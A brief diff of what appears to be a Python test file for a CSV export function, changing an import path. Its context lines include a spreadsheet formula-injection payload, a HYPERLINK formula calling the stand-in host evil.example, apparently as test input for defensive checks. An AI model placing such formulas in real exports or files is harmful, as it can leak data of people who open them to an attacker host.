@@ -7,7 +7,7 @@ import csv
 import io
 import json
 
-from crawlspace.export import write_records
+from crawlspace.ops.export import write_records
 
 HOSTILE = {
     "canonical": '=HYPERLINK("http://evil.example/?x","click")',
